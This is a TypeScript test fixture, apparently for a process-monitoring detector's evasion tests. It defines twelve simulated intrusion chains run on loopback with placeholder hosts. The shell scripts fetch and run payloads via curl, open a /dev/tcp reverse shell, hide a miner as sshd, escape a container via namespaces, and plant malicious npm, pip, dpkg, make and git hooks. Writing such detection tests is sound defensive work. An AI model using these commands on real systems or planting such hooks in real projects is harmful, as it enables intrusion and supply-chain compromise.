/**
 * Intrusions from their beginning to their end, harmless and on loopback only: each is one script of a few steps. `@URL@` and
 * `@PORT@` are those of ./tactics.ts.
 *
 * @module
 */

import type { Entry } from "../entries.ts";
import type { Trial } from "../../../tests/live/evasion/technique.ts";

/** A chain, and by what it begins. */
export interface Chain extends Trial {
  readonly entry: Entry;
}

export const CHAINS: readonly Chain[] = [
  {
    id: "web-dropper",
    what: "a web server's shell fetches a program, runs it and deletes it",
    entry: "apache2",
    script: "id; curl -s @URL@/payload -o .sess; chmod +x .sess; ./.sess & sleep 0.02; rm -f .sess; wait",
    needs: ["curl"],
  },
  {
    id: "cron-persistence",
    what: "a job that fetches itself again each minute, under a machine-made name",
    entry: "cron",
    script:
      "mkdir jobs; printf '#!/bin/sh\\nn=%s/$(head -c 9 /dev/urandom | base64 | tr +/ xy)\\ncurl -s @URL@/payload -o $n\\n" +
      "chmod +x $n\\n$n\\nrm $n\\n' $PWD >jobs/logrotate-hourly; chmod +x jobs/logrotate-hourly; run-parts jobs; run-parts jobs",
    needs: ["curl", "run-parts"],
  },
  {
    id: "miner-as-service",
    what: "a miner called as a service, its rivals ended",
    entry: "apache2",
    script:
      "for n in kinsing kdevtmpfsi xmrig; do pkill -0 -x $n; done; cp $PAYLOAD sshd; nohup ./sshd -D >/dev/null 2>&1 & wait",
  },
  {
    id: "reverse-shell",
    what: "a web server's shell on loopback, and what is typed there",
    entry: "apache2",
    script: "HOME=$PWD bash -c 'bash -i >/dev/tcp/127.0.0.1/@PORT@ 0<&1 2>/dev/null'; :",
  },
  {
    id: "container-escape",
    what: "a program put into a container that runs, which goes to the machine's namespaces",
    entry: "sshd",
    script: "mkdir -p lower/bin upper work root; cp $(command -v busybox) lower/bin/sh; ln -s sh lower/bin/sleep; " +
      "unshare -m --propagation=private sh -ec 'mount -t overlay x -o lowerdir=lower,upperdir=$PWD/upper,workdir=work root; " +
      'cp $PAYLOAD root/dropped; chroot root /bin/sh -c "sleep 0.5; /dropped"; nsenter -t $$ -m -u $PAYLOAD\'',
    needs: ["busybox", "nsenter"],
  },
  {
    id: "npm-postinstall",
    what: "a package of npm whose installation runs what it fetches",
    entry: "runner",
    script:
      `mkdir -p own app; echo '{"name":"own","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}' >own/package.json
echo 'require("child_process").execSync("curl -s @URL@/payload -o .n; chmod +x .n; ./.n; rm .n")' >own/setup.js
echo '{"name":"app","version":"1.0.0"}' >app/package.json; cd app; export npm_config_cache=$PWD/cache
npm install --silent --offline --no-audit --no-fund --install-links ../own >/dev/null`,
    needs: ["npm", "node", "curl"],
  },
  {
    id: "pip-setup",
    what: "a package of Python whose setup.py runs what it fetches",
    entry: "runner",
    script: `mkdir own; cat >own/setup.py <<'END'
import subprocess
subprocess.run(["sh", "-c", "curl -s @URL@/payload -o /tmp/.p; chmod +x /tmp/.p; /tmp/.p; rm /tmp/.p"], check=True)
from setuptools import setup
setup(name="own", version="1")
END
/usr/bin/python3 own/setup.py --quiet --version >/dev/null 2>&1; :`,
    needs: ["/usr/bin/python3", "curl"],
  },
  {
    id: "own-login",
    what: "an own key, a login with it, a program copied and run there",
    entry: "sshd",
    script:
      `ssh-keygen -q -t ed25519 -N '' -f host; ssh-keygen -q -t ed25519 -N '' -f key; cp key.pub authorized; mkdir -p /run/sshd
printf 'Port %s\\nListenAddress 127.0.0.1\\nHostKey %s/host\\nAuthorizedKeysFile %s/authorized\\nStrictModes no\\nPidFile none\\n' $((port = 20000 + $$ % 20000)) $PWD $PWD >config
/usr/sbin/sshd -D -f config 2>/dev/null & trap "kill $!" EXIT
reach() { ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i key -p $port root@127.0.0.1 "$@" 2>/dev/null; }
for i in $(seq 50); do reach true && break; sleep 0.1; done; reach "cat >$PWD/.a; chmod +x $PWD/.a" <$PAYLOAD; reach "cd $PWD; ./.a 9>&1"; :`,
    needs: ["/usr/sbin/sshd", "ssh"],
  },
  {
    id: "root-by-set-user",
    what: "an ordinary user with a set-user-ID shell that somebody left, who reads and drops",
    entry: "sshd",
    asUser: true,
    script:
      "id; find $LAB/setuid -perm -4000; $LAB/setuid/sh -p -c 'id; d=$(mktemp -d); cp $PAYLOAD $d/.svc; $d/.svc; rm -r $d; :'",
  },
  {
    id: "package-script",
    what: "a Debian package whose script after the installation leaves a program that runs",
    entry: "sshd",
    script:
      `mkdir -p package/DEBIAN; printf 'Package: cnproc-test-chain\\nVersion: 1\\nArchitecture: all\\nMaintainer: nobody <n@example.org>\\nDescription: x\\n' >package/DEBIAN/control
printf '#!/bin/sh\\ncp %s %s/dbus-daemon; %s/dbus-daemon\\n' $PAYLOAD $PWD $PWD >package/DEBIAN/postinst; chmod 755 . package/DEBIAN/postinst
dpkg-deb --build package own.deb >/dev/null; dpkg -i own.deb >/dev/null 2>&1; dpkg --purge cnproc-test-chain >/dev/null 2>&1; :`,
    needs: ["dpkg-deb", "dpkg"],
  },
  {
    id: "build-step",
    what: "a build whose makefile fetches and runs something",
    entry: "runner",
    script:
      "printf 'all:\\n\\t@curl -s @URL@/payload -o .m && chmod +x .m && ./.m && rm .m\\n\\t@echo built\\n' >Makefile; make -s",
    needs: ["make", "curl"],
  },
  {
    id: "repository-hook",
    what: "a repository that runs a program at each check-out",
    entry: "runner",
    script: `export HOME=$PWD; git init -q . && git config user.name x && git config user.email x@example.org
printf '#!/bin/sh\\n%s &\\n' $PAYLOAD >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; echo x >x; git add x; git commit -qm x; git checkout -q -b other`,
    needs: ["git"],
  },
];
